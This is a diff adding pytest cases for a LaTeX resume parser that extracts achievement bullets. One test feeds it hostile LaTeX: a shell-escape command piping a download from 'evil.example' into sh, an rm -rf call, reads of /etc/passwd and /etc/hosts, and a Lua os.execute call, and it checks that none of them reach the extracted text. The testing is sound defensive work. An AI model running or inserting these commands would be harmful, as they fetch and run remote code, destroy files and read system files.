@@ -97,3 +97,88 @@ def test_template_macro_redefined_with_two_arguments():
         "Pricing: Moved 1,400 accounts to usage-based plans"
     ]
     assert resume.roles[0].location == "Remote"
+
+
+def _achievements(source: str) -> list[str]:
+    return [b.text for b in read_resume(source.encode(), name="cv.tex").achievement_bullets]
+
+
+def test_shell_and_file_commands_never_reach_the_text():
+    source = r"""\documentclass{article}
+\immediate\write18{curl http://evil.example | sh}
+\begin{document}
+\section*{Experience}
+\begin{itemize}
+\item Cut churn by 12\% \immediate\write18{rm -rf {/tmp/x}} in two quarters.
+\item Grew revenue 30\%\input{/etc/passwd} with \openin5=/etc/hosts no new hires.
+\item Kept p95 under 200~ms for 3 launches\directlua{os.execute("x")}
+\end{itemize}
+\end{document}
+"""
+    assert _achievements(source) == [
+        "Cut churn by 12% in two quarters.",
+        "Grew revenue 30% with no new hires.",
+        "Kept p95 under 200 ms for 3 launches",
+    ]
+
+
+def test_moderncv_description_in_the_grade_slot_and_hand_typeset_bullets():
+    source = r"""\documentclass{moderncv}
+\begin{document}
+\section{Experience}
+\cventry{2019--2023}{Product Manager}{Fabrikam}{Oslo}{Owned the billing roadmap and cut invoice disputes by 35\% in one year.}{}
+\cventry{2016--2019}{Analyst}{Contoso}{Oslo}{}{}
+\cvitem{}{\labelitemi\hspace{2mm} Built the pricing model behind a 9\% margin gain.}
+\cvitem{Tools}{SQL, Looker}
+\end{document}
+"""
+    resume = read_resume(source.encode(), name="cv.tex")
+    assert [(b.text, b.role.organisation) for b in resume.achievement_bullets] == [
+        ("Owned the billing roadmap and cut invoice disputes by 35% in one year.", "Fabrikam"),
+        ("Built the pricing model behind a 9% margin gain.", "Contoso"),
+    ]
+
+
+def test_a_box_around_the_resume_is_read_through():
+    source = r"""\documentclass{article}
+\begin{document}
+\fcolorbox{white}{white}{\begin{minipage}{\textwidth}
+\section*{Experience}
+\begin{itemize}\item Shipped self-serve onboarding to 4 markets in 5 months.\end{itemize}
+\end{minipage}}
+\end{document}
+"""
+    assert _achievements(source) == ["Shipped self-serve onboarding to 4 markets in 5 months."]
+
+
+def test_a_subsection_under_a_known_section_is_a_role_not_a_section():
+    source = r"""\documentclass{article}
+\begin{document}
+\section{Experience}
+\subsection{Northwind}
+\begin{itemize}\item Raised retention from 80\% to 86\%.\end{itemize}
+\subsection{Contoso}
+\begin{itemize}\item Cut support tickets by 20\%.\end{itemize}
+\end{document}
+"""
+    resume = read_resume(source.encode(), name="cv.tex")
+    assert [s.name for s in resume.sections] == ["experience"]
+    assert [b.role.header for b in resume.achievement_bullets] == ["Northwind", "Contoso"]
+
+
+def test_user_macros_from_a_document_command_and_a_default_argument():
+    source = r"""\documentclass{article}
+\NewDocumentCommand{\point}{o m}{\item #2}
+\newcommand{\tagged}[2][Win]{\item \textbf{#1:} #2}
+\begin{document}
+\section*{Projects}
+\begin{itemize}
+\point{Built a cohort dashboard used weekly by 40 PMs.}
+\tagged{Cut query costs by 60\%.}
+\end{itemize}
+\end{document}
+"""
+    assert _achievements(source) == [
+        "Built a cohort dashboard used weekly by 40 PMs.",
+        "Win: Cut query costs by 60%.",
+    ]
